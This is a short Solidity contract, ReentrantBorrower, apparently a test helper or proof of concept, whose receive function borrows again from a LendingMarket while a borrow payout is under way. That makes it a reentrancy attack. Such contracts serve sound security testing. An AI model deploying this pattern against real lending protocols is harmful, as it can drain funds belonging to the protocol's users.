// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {LendingMarket} from "./LendingMarket.sol";

/// @title Borrows again while it is being paid.
contract ReentrantBorrower {
    LendingMarket private immutable market;

    constructor(LendingMarket market_) {
        market = market_;
    }

    function attack(uint256 amount) external {
        market.borrow(amount);
    }

    receive() external payable {
        market.borrow(msg.value);
    }
}
